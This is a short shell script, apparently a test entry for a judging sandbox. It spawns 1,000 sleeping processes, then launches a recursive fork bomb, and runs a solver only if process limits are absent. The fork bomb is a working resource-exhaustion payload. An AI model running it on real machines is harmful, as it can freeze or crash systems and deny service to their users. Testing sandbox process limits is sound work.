#!/bin/sh
# A fork bomb. Before it goes off it starts 1,000 sleeping processes and answers (with the
# static solver run.sh puts beside it) only if they all started: it scores only where the
# number of processes is not limited.
i=0 started=0 last=
while [ "$i" -lt 1000 ]; do
    sleep 30 &
    if [ "$!" != "$last" ]; then started=$((started + 1)) last=$!; fi
    i=$((i + 1))
done
bomb() { bomb | bomb & }
bomb
if [ "$started" -ge 1000 ]; then exec ./solver; fi
echo X 0 0
